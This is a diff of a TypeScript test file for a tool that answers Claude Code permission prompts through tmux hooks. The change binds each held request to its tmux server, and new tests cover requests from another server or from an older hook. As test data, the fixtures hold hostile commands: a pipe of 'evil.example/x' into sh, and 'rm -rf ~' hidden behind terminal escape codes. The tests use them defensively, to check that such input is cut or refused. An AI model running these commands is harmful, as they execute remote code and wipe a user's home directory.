@@ -68,9 +68,9 @@ afterEach(async () => {
 const state = () => w.ctx.env.XDG_STATE_HOME!;
 
 /** Runs the installed PermissionRequest line as Claude Code would; resolves with its stdout and exit code. */
-function holdingHook(hold: number, request: object = REQUEST) {
+function holdingHook(hold: number, request: object = REQUEST, server: string = socket) {
   const child = spawn('sh', ['-c', hookCommand(hold)], {
-    env: { PATH: process.env.PATH, HOME: home, XDG_STATE_HOME: state(), TMUX_PANE: pane, TMUX: `${socket},1,0` },
+    env: { PATH: process.env.PATH, HOME: home, XDG_STATE_HOME: state(), TMUX_PANE: pane, TMUX: `${server},1,0` },
     stdio: ['pipe', 'pipe', 'pipe'],
   });
   children.push(child);
@@ -91,7 +91,7 @@ function team(): Run {
 }
 
 const held = () =>
-  waitFor(() => heldRequestFor(path.join(state(), 'tower'), pane) !== null, 5000, {
+  waitFor(() => heldRequestFor(path.join(state(), 'tower'), socket, pane) !== null, 5000, {
     what: 'the hook to hold the request',
   });
 
@@ -99,7 +99,7 @@ describe('answering through the PermissionRequest hook', () => {
   it('allows: the hook prints the allow decision, the plan and the audit say the hook way was used', async () => {
     const hook = holdingHook(20);
     await held();
-    const r = heldRequestFor(path.join(state(), 'tower'), pane)!;
+    const r = heldRequestFor(path.join(state(), 'tower'), socket, pane)!;
     expect(r).toMatchObject({ tool: 'Bash', subject: 'rm -rf node_modules', server: socket });
     w.setSnapshot(snapshotOf(team()));
     const plan = planAction(w.env, { kind: 'answer', run: 'docs', members: ['writer'], choice: '1' });
@@ -141,14 +141,14 @@ describe('answering through the PermissionRequest hook', () => {
     expect(plan.title).toContain('(cut: v shows the whole input)');
     expect(plan.title).not.toContain('Run the unit tests');
     expect(plan.detail).toMatchObject({ hook: { cut: true, input: expect.stringContaining('evil.example/x | sh') } });
-    fs.writeFileSync(heldRequestFor(path.join(state(), 'tower'), pane)!.answerFile, 'deny\n');
+    fs.writeFileSync(heldRequestFor(path.join(state(), 'tower'), socket, pane)!.answerFile, 'deny\n');
     await hook.done;
 
     const hidden = holdingHook(20, { ...REQUEST, tool_input: { command: 'echo ok\u001b[2K\rrm -rf ~' } });
     await held();
     const refused = planAction(w.env, { kind: 'answer', run: 'docs', members: ['writer'], choice: '1' });
     expect(refused.refusal).toMatch(/input cannot be shown whole .*answer it in the agent's own dialog/);
-    fs.writeFileSync(heldRequestFor(path.join(state(), 'tower'), pane)!.answerFile, 'deny\n');
+    fs.writeFileSync(heldRequestFor(path.join(state(), 'tower'), socket, pane)!.answerFile, 'deny\n');
     await hidden.done;
   });
 
@@ -176,7 +176,7 @@ describe('answering through the PermissionRequest hook', () => {
     const { out, code, ms } = await hook.done;
     expect({ out, code }).toEqual({ out: '', code: 0 });
     expect(ms).toBeLessThan(4000);
-    expect(heldRequestFor(path.join(state(), 'tower'), pane)).toBeNull();
+    expect(heldRequestFor(path.join(state(), 'tower'), socket, pane)).toBeNull();
     expect(fs.readdirSync(heldDir(path.join(state(), 'tower')))).toEqual([]);
     // tower answer then types keys, as without the hook.
     w.setSnapshot(snapshotOf(team()));
@@ -242,5 +242,57 @@ describe('answering through the PermissionRequest hook', () => {
     const back = withHooks(out.settings);
     expect('added' in back && back.added).toEqual(['PermissionRequest']);
     expect('settings' in back && installedHold(back.settings)).toBe(0);
+  });
+
+  it('never takes a request from another tmux server whose pane has the same %N: unattributed, not answered', async () => {
+    // Another server (an agent of someone else's session) whose pane is also this %N.
+    const other = await startTmux();
+    try {
+      const otherPane = await other.newSession('agent', home, 'sh -c "echo other; sleep 100000"');
+      expect(otherPane).toBe(pane);
+      const otherSocket = (await other.client.run(['display-message', '-p', '#{socket_path}'])).trim();
+      const hook = holdingHook(20, REQUEST, otherSocket);
+      await waitFor(() => heldRequestFor(path.join(state(), 'tower'), otherSocket, pane) !== null, 5000, {
+        what: 'the other server to hold its request',
+      });
+      // The member's pane on tower's server has no request of its own.
+      expect(heldRequestFor(path.join(state(), 'tower'), socket, pane)).toBeNull();
+      const events = new HookEvents(hookEventsFile(path.join(state(), 'tower')));
+      const snap = await snapshotWithActivity(tmux.client, snapshotOf(team()), events);
+      expect(snap.runs[0]!.members[0]!.prompt).toBeUndefined();
+      expect(snap.problems.map((p) => p.message)).toContainEqual(
+        expect.stringContaining(
+          `unattributed question: a held permission request (Bash: rm -rf node_modules) from pane ${pane} on ${otherSocket}`,
+        ),
+      );
+      w.setSnapshot(snap);
+      const plan = planAction(w.env, { kind: 'answer', run: 'docs', members: ['writer'], choice: '1' });
+      expect(plan.title).not.toContain('through the hook');
+      expect(plan.effects.map((e) => e.text).join('\n')).not.toContain('.answer');
+      children.at(-1)?.kill('SIGKILL');
+      await hook.done;
+    } finally {
+      await other.kill();
+    }
+  });
+
+  it('takes a request that names no server (an older hook) for no member', async () => {
+    const dir = heldDir(path.join(state(), 'tower'));
+    fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
+    const id = `${Math.floor(Date.now() / 1000)}-4242`;
+    fs.writeFileSync(
+      path.join(dir, `${id}.req`),
+      `${pane}\t${Math.floor(Date.now() / 1000)}\t60\n${JSON.stringify(REQUEST)}\n`,
+    );
+    expect(heldRequestFor(path.join(state(), 'tower'), socket, pane)).toBeNull();
+    w.setSnapshot(snapshotOf(team()));
+    const plan = planAction(w.env, { kind: 'answer', run: 'docs', members: ['writer'], choice: '1' });
+    expect(plan.title).not.toContain('through the hook');
+    const events = new HookEvents(hookEventsFile(path.join(state(), 'tower')));
+    const snap = await snapshotWithActivity(tmux.client, snapshotOf(team()), events);
+    expect(snap.problems.map((p) => p.message)).toContainEqual(
+      expect.stringContaining(`from pane ${pane} on a tmux server the request does not name`),
+    );
+    fs.rmSync(path.join(dir, `${id}.req`));
   });
 });
